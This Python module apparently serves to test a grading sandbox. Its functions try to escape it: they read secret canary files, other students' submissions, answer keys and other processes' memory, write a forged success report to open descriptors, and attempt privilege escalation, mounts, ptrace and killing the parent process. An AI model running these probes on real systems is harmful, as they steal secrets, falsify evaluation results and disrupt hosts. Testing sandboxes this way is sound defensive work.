"""Attempts to escape from the sandbox: to the network, files, other processes, the kernel. Each returns its gain.

An attack adds this whole file to an experiment. Without a sandbox, each attempt gains something
(`tests/test_attack_attempts.py` checks this), so no attempt fails for a trivial reason. This file uses only the
standard library.
"""

import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import pwd
import resource
import signal
import socket
import stat
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from typing import Any

# The attacker's knowledge about the grader's machine: `canary`, a secret file; `submissions`; `suite`, the repository;
# `machine`, its host name.
Known = dict[str, str]


def works(attempt: Callable[..., object], *arguments: object) -> bool:
    """Return whether a call succeeds without an exception."""
    try:
        attempt(*arguments)
    except (OSError, ValueError, subprocess.SubprocessError):
        return False
    return True


def readable(path: str) -> bytes:
    """Return the beginning of a file, or the target of a link. Return b"" if reading is not allowed."""
    try:
        if os.path.islink(path):
            return os.readlink(path).encode()
        with open(path, "rb") as file:
            return file.read(100).strip(b"\0")
    except OSError:
        return b""


def openable(path: str, flags: int = os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY) -> bool:
    """Return whether a file or device can be opened."""
    return works(lambda: os.close(os.open(path, flags)))


def call(x86: int, arm: int, *arguments: object) -> int:
    """Make a system call by its number, without glibc's checks. The result is negative for an error."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    number = arm if os.uname().machine == "aarch64" else x86
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    return int(libc.syscall(ctypes.c_long(number), *words))


def call_in_a_child(x86: int, arm: int, *arguments: object) -> int:
    """Make a system call in a child process, which then ends. The result is negative for an error."""
    child = os.fork()
    if child == 0:
        os._exit(0 if call(x86, arm, *arguments) >= 0 else 1)
    return -os.waitpid(child, 0)[1]


def succeeded(results: dict[str, int]) -> list[str]:
    """Return the names of the calls that were allowed."""
    return [name for name, result in results.items() if result >= 0]


def inherited_descriptors(known: Known) -> object:
    """Look for inherited pipes, sockets, nameless files and inheritable files."""
    found = []
    for number in range(3, 4096):
        try:
            about = os.fstat(number)
        except OSError:
            continue
        odd = stat.S_ISFIFO(about.st_mode) or stat.S_ISSOCK(about.st_mode) or about.st_nlink == 0
        if odd or os.get_inheritable(number):
            found.append((number, oct(about.st_mode)))
    return found


def report_of_the_launcher(known: Known) -> object:
    """Write a false report of the launcher to all open files: the run ended well and left good results."""
    ending = b"OK 0 - \0" + b"2 metrics.log\0{}" + b"\0"
    return [number for number in range(3, 4096) if works(os.write, number, ending)]


def rights_left(known: Known) -> object:
    """Ask the kernel which rights this process and its children have, and whether a filter is active."""
    libc = ctypes.CDLL(None)

    def rights() -> list[str]:
        data = ctypes.create_string_buffer(24)
        libc.capget(ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0)), data)
        found = ["capability"] if data.raw.strip(bytes(1)) else []
        found += [f"bounding {number}" for number in range(64) if libc.prctl(23, number, 0, 0, 0) == 1]
        found += ["new privileges"] if libc.prctl(39, 0, 0, 0, 0) == 0 else []
        return found + (["no filter"] if libc.prctl(21, 0, 0, 0, 0) == 0 else [])

    child = os.fork()
    if child == 0:
        os._exit(1 if rights() else 0)
    return rights() + (["a child's"] if os.waitpid(child, 0)[1] else [])


def marks_of_other_runs(known: Known) -> object:
    """Leave marks in memory and in every folder, and look for marks of earlier runs."""
    mark = "attack-mark"
    start = os.stat("/input/job.json").st_ctime if os.path.exists("/input/job.json") else float("inf")
    found: list[object] = []
    for owner in (os, sys, time):
        marks = [*getattr(owner, mark, ()), time.time()]
        setattr(owner, mark, marks)
        found += [(owner.__name__, at) for at in marks if at < start]
    for folder in (".", "/tmp", "/dev/shm", "/scratch", "/input", "/proc"):
        path = os.path.join(folder, f"{mark}-{os.getpid()}-{time.time()}")
        if openable(path, os.O_CREAT | os.O_WRONLY):
            names = [name for name in os.listdir(folder) if name.startswith(mark)]
            found += [(folder, name) for name in names if float(name.rpartition("-")[2]) < start]
            if start == float("inf"):
                os.remove(path)
    return found


def processes_beside(known: Known) -> object:
    """Ask for a handle of every process: the parent, and the processes of other runs."""
    others = (pid for pid in range(2, 1 << 15) if pid != os.getpid())
    return [pid for pid in others if works(lambda number: os.close(os.pidfd_open(number)), pid)]


def network_families(known: Known) -> object:
    """Open a socket of every address family and type, also with the kernel's own numbers."""
    kinds = [(kind, protocol) for kind in (1, 2, 3, 5) for protocol in (0, 1, 17, 768)]
    made = [(family, *kind) for family in range(64) for kind in kinds if works(socket.socket, family, *kind)]
    return [*made, *(family for family in (1, 2, 10, 16, 17, 38, 40) if call(41, 198, family, 2, 0) >= 0)]


def home_folder(known: Known) -> object:
    """Read the grader's home folder, and read a secret file in it by its full path."""
    import harness

    canary = known["canary"]
    places = [os.path.dirname(canary), os.path.expanduser("~root"), "/root", "/home"]
    places += [entry.pw_dir for entry in pwd.getpwall()]
    shown = ("/scratch", "/usr", "/bin", "/sbin", "/lib", "/dev", "/proc")
    found = [readable(canary)] if readable(canary) else []
    for place in places:
        if place != "/" and not place.startswith(shown) and works(os.listdir, place):
            # Python itself and the harness may be in a home folder. The sandbox shows these files.
            names = [os.path.join(place, name) for name in os.listdir(place)]
            shown_there = (sys.base_prefix, sys.prefix, harness.__file__)
            found += [name.encode() for name in names if not any(one.startswith(name) for one in shown_there)]
    return found


def answers(known: Known) -> object:
    """Look for the solutions, the rubric, the held-out images and the healthy experiments."""
    import harness

    names = {
        *("variants.toml", "measured.toml", "recipe.toml", "rubric.toml", "bands.toml", "notes.md", "HEAD"),
        *("digits_mlp.py", "scoring.py", "attack.py"),
    }
    found = []
    for root in {known["suite"], os.path.dirname(os.path.dirname(os.path.abspath(harness.__file__)))}:
        for folder, inner, files in os.walk(root):
            inner[:] = [name for name in inner if name not in ("lib", "lib64", "objects")]
            held_out = folder.endswith("heldout")
            paths = [os.path.join(folder, name) for name in files if held_out or name in names]
            found += [path for path in paths if readable(path)]
    return found


def other_submissions(known: Known) -> object:
    """Read other students' submissions."""
    walked = os.walk(known["submissions"])
    return [readable(os.path.join(folder, name)) for folder, _, files in walked for name in files]


def environment(known: Known) -> object:
    """Read the environment variables of this process and of its parents."""
    found = [name for name in os.environ if name.startswith(("TRAINWRECK", "SSH", "AWS", "USER", "VIRTUAL"))]
    return [*found, *(pid for pid in {1, os.getppid()} if readable(f"/proc/{pid}/environ"))]


def other_processes(known: Known) -> object:
    """Read memory, files and arguments of every other process."""
    pids = [int(name) for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()]
    names = ("mem", "environ", "maps", "auxv", "stack", "root", "cwd", "exe", "ns/net", "fd/0", "fd/3")
    read = [f"/proc/{pid}/{name}" for pid in pids for name in names if readable(f"/proc/{pid}/{name}")]
    return [*read, *(pid for pid in pids if pid not in (1, os.getppid()))]


def writing_everywhere(known: Known) -> object:
    """Write to every folder of the machine, of the grader, and of Python."""
    import harness

    places = ["/", *glob.glob("/*"), *glob.glob("/usr/*"), "/var/tmp", sys.prefix, "..", "../.."]
    places += [known["suite"], known["submissions"], os.path.dirname(known["canary"])]
    places += [os.path.dirname(harness.__file__), os.path.dirname(os.__file__), *sys.path]
    written = []
    for place in places:
        path = os.path.abspath(os.path.join(place, "left-by-an-attack"))
        if openable(path, os.O_CREAT | os.O_WRONLY):
            os.remove(path)
            written.append(path)
    # Ignore the run's own folders. The suite itself may be inside one of them.
    return [path for path in written if not path.startswith(("/scratch/", "/tmp/", "/dev/shm/"))]


def kernel_files(known: Known) -> object:
    """Open kernel settings for writing: core pattern, sysrq, control groups, uid maps."""
    paths = ["/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/proc/1/mem", "/proc/1/oom_score_adj"]
    paths += ["/proc/self/oom_score_adj", "/proc/self/attr/current"]
    for pattern in ("/proc/sys/kernel/*", "/sys/kernel/*", "/sys/fs/cgroup/*.max"):
        paths += glob.glob(pattern)
    return [path for path in paths if openable(path, os.O_WRONLY)]


def devices(known: Known) -> object:
    """Open and create devices: disks, memory, terminals."""
    usual = ("null", "full", "random", "urandom", "stdin", "stdout", "stderr")
    walked = [(folder, name) for folder, _, names in os.walk("/dev") for name in names if name not in usual]
    # If the experiment is loaded twice, /dev/shm contains the marks of a later attempt.
    walked = [(folder, name) for folder, name in walked if not name.startswith("attack-mark")]
    found = [name for folder, name in walked if openable(os.path.join(folder, name))]
    memory, disk = stat.S_IFCHR | 0o666, stat.S_IFBLK | 0o666
    for kind, major, minor in ((memory, 1, 1), (memory, 1, 5), (disk, 8, 0), (disk, 254, 0)):
        name = f"attack-{major}-{minor}"
        if works(os.mknod, name, kind, os.makedev(major, minor)):
            found += [name] if openable(name, os.O_RDONLY) else []
            os.remove(name)
    return found


def terminal(known: Known) -> object:
    """Type into the grader's terminal."""
    names = ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/ptmx", "/dev/pts/0")
    typed = [
        (number, request)
        for number in (0, 1, 2)
        for request in (0x5412, 0x541C)
        if works(fcntl.ioctl, number, request, b"#")
    ]
    return [*(name for name in names if openable(name)), *typed]


def tracing(known: Known) -> object:
    """Trace the parent process, offer to be traced, and read the memory of other processes."""
    own, parent = os.getpid(), os.getppid()
    buffer = ctypes.create_string_buffer(64)
    vector = ctypes.byref((ctypes.c_size_t * 2)(ctypes.addressof(buffer), 64))
    results = {
        "me": call_in_a_child(101, 117, 0, 0, 0, 0),
        "parent": call_in_a_child(101, 117, 0x4206, parent, 0, 0),
        "child": call_in_a_child(101, 117, 0x4206, own, 0, 0),
        "read": call(310, 270, own, vector, 1, vector, 1, 0),
        "write": call(311, 271, own, vector, 1, vector, 1, 0),
        "compare": call(312, 272, own, parent, 1, 0, 0),
    }
    return succeeded(results)


def mounts(known: Known) -> object:
    """Mount and unmount file systems, and change the root."""
    os.makedirs("attack-mount", exist_ok=True)
    here = os.path.abspath("attack-mount").encode()
    results = {
        "tmpfs": call(165, 40, b"none", here, b"tmpfs", 0, 0),
        "bind": call(165, 40, b"/", here, 0, 4096, 0),
        "rw": call(165, 40, 0, b"/", 0, 32 | 4096, 0),
        "proc": call(165, 40, b"proc", here, b"proc", 0, 0),
        "tree": call(428, 428, -100, b"/usr", 1),
        "open": call(430, 430, b"tmpfs", 0),
        "root": call(161, 51, here) if here.startswith(b"/scratch") else -1,
    }
    for _ in range(3):
        results["off"] = call(166, 39, here, 2)
    return succeeded(results)


def namespaces(known: Known) -> object:
    """Create and enter namespaces in which this process would be root."""
    made: list[object] = []
    for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000):
        made += [("unshare", flag)] if call_in_a_child(272, 97, flag) >= 0 else []
        made += [("clone", flag)] if call_in_a_child(56, 220, flag | 17, 0, 0, 0, 0) >= 0 else []
    for name in ("net", "mnt", "pid", "user"):
        path = f"/proc/1/ns/{name}"
        made += [name] if readable(path) and call(308, 268, os.open(path, os.O_RDONLY), 0) >= 0 else []
    return made


def keyrings(known: Known) -> object:
    """Add a key to a keyring, where it would outlive the run, and look for keys of others."""
    results = {
        "add": call(248, 217, b"user", b"attack", b"payload", 7, -2),
        "request": call(249, 218, b"user", b"attack", 0, -2),
        "id": call(250, 219, 0, -3, 1),
        "join": call(250, 219, 1, 0),
    }
    return succeeded(results)


def kernel_surface(known: Known) -> object:
    """Ask for io_uring, BPF, page faults, file handles, notifications about others' files, and the kernel's log."""
    table = ctypes.create_string_buffer(bytes([1, 0, 0, 0, 4, 0, 0, 0, 4, 0, 0, 0, 1, 0]), 72)
    handle = ctypes.create_string_buffer(bytes([128]), 256)
    results = {
        "io_uring": call(425, 425, 4, ctypes.create_string_buffer(256)),
        "bpf": call(321, 280, 0, table, 72),
        "userfaultfd": call(323, 282, 1),
        "handle": call(303, 264, -100, b"/usr", handle, ctypes.byref(ctypes.c_int()), 0),
        "fanotify": call(300, 262, 0x200, 0),
        "syslog": call(103, 116, 10, 0, 0),
        "personality": call(135, 92, 0x0040000),
    }
    return succeeded(results)


def shared_files(known: Known) -> object:
    """Block other processes at a file that they share with this run, or signal another run through a shared file."""
    gained: list[object] = []
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    for path in (known["canary"], os.__file__, *glob.glob("/usr/lib/*/libc.so.6")):
        with contextlib.suppress(OSError), open(path, "rb") as file:
            # A lease: another process that opens the file waits for 45 seconds. A lock, an open-file lock, a
            # notification.
            taken: dict[str, tuple[Any, ...]] = {"lease": (fcntl.fcntl, file, fcntl.F_SETLEASE, fcntl.F_RDLCK)}
            taken["lock"] = (fcntl.flock, file, fcntl.LOCK_SH)
            taken["range"] = (fcntl.fcntl, file, 37, struct.pack("hhqqi4x", fcntl.F_RDLCK, 0, 0, 1, 0))
            taken["owner"] = (fcntl.fcntl, file, fcntl.F_SETOWN, os.getpid())
            gained += [(path, name) for name, (take, *arguments) in taken.items() if works(take, *arguments)]
            # FUTEX_WAKE without the private flag wakes every process that waits at the same page of the file.
            page = libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), ctypes.c_long(0))
            gained += [(path, "futex")] if call(202, 98, page, 1, 1, 0, 0, 0) >= 0 else []
    notices = call(294, 26, 0)
    if notices >= 0:
        gained += ["inotify"] if call(254, 27, notices, b"/usr", 0x20) >= 0 else []
        os.close(notices)
    return gained


def uncounted_memory(known: Known) -> object:
    """Allocate memory that no limit counts: shared or anonymous memory, queues, and kernel memory."""
    results = {"shared": 0 if works(mmap.mmap, -1, 1 << 20) else -1, "segment": call(29, 194, 0, 1 << 20, 0o1666)}
    results["queue"] = call(68, 186, 0, 0o1666)
    for name, x86, arm in (("segment", 31, 195), ("queue", 71, 187)):
        if results[name] >= 0:
            call(x86, arm, results[name], 0, 0)
    context, timer = ctypes.c_ulong(0), ctypes.c_int()
    results |= {
        "memfd": call(319, 279, b"attack", 0), "events": call(206, 0, 1000, ctypes.byref(context)),
        "timer": call(222, 107, 1, 0, ctypes.byref(timer)), "eventfd": call(290, 19, 0, 0),
        "epoll": call(291, 20, 0), "timerfd": call(283, 85, 1, 0), "signalfd": call(289, 74, -1, bytes(8), 8, 0),
        "lock": call(149, 228, ctypes.create_string_buffer(4096), 4096),
    }  # fmt: skip
    with open("attack-attributes", "w") as file:
        # Each attribute takes 64 KiB of the kernel's memory, and a file may have thousands.
        results["attribute"] = 0 if works(os.setxattr, file.fileno(), "user.attack", b"x" * 1000) else -1
    os.remove("attack-attributes")
    reading, writing = os.pipe()
    results["pipe"] = 0 if works(fcntl.fcntl, writing, 1031, 1 << 20) else -1
    opened = [os.dup(reading) for _ in range(200) if works(lambda: os.close(os.dup(reading)))]
    results["files"] = 0 if len(opened) == 200 else -1
    for number in (reading, writing, *opened):
        os.close(number)
    return succeeded(results)


def other_programs(known: Known) -> object:
    """Start a program: a shell, a compiler, a set-user-id program."""
    asked = {name: lambda name=name: subprocess.run([name, "--version"], capture_output=True) for name in ("sh", "env")}
    return [name for name, attempt in asked.items() if works(attempt)]


def becoming_root(known: Known) -> object:
    """Ask for rights: user 0, priority, higher limits, set-user-id bits."""
    asked: dict[str, Callable[[], object]] = {
        "user": lambda: os.setresuid(0, 0, 0),
        "group": lambda: os.setgroups([0]),
        "nice": lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
        "core": lambda: resource.setrlimit(resource.RLIMIT_CORE, (1 << 30, 1 << 30)),
        "files": lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (1 << 19, 1 << 19)),
        "limit of 1": lambda: resource.prlimit(1, resource.RLIMIT_CORE),
        "su": lambda: subprocess.run(["su", "-c", "true"], check=True, capture_output=True, timeout=5),
    }
    return [name for name, attempt in asked.items() if works(attempt)]


def who_is_there(known: Known) -> object:
    """Ask for the machine's name, its users and its disks."""
    paths = ["/sys/class/net", "/sys/block", "/sys/class/dmi", "/var/log"]
    paths += [f"/etc/{name}" for name in ("hostname", "shadow", "hosts", "ssh", "machine-id", "resolv.conf")]
    found = [path for path in paths if os.path.exists(path)]
    return [*found, *(["name"] if os.uname().nodename == known["machine"] else [])]


def signals_upwards(known: Known) -> object:
    """Stop and kill the parent process."""
    if os.getppid() != 1:
        return []  # without a sandbox, it would hit an unrelated process
    for number in (signal.SIGCONT, signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGSEGV):
        works(os.kill, 1, number)
    state = readable("/proc/1/stat").rpartition(b")")[2].split()
    return [state[0]] if state and state[0] in b"TtZX" else []


ATTEMPTS: tuple[Callable[[Known], object], ...] = (
    inherited_descriptors, report_of_the_launcher, rights_left,
    processes_beside, network_families, home_folder, answers, other_submissions, environment, other_processes,
    writing_everywhere, kernel_files, devices, terminal, tracing, mounts, namespaces, keyrings, kernel_surface,
    shared_files, uncounted_memory, other_programs, becoming_root, who_is_there, marks_of_other_runs, signals_upwards,
)  # fmt: skip


def gains(known: Known) -> dict[str, str]:
    """Make every attempt, and return the gains by attempt, without attempts that gained nothing.

    The system refuses an attempt only with an `OSError`. Any other error is a mistake in the attempt and is not hidden.
    """
    found = {}
    for attempt in ATTEMPTS:
        try:
            gained = attempt(known)
        except OSError:
            continue
        except BaseException as error:
            gained = error
        if gained:
            found[attempt.__name__] = repr(gained)[:300]
    return found
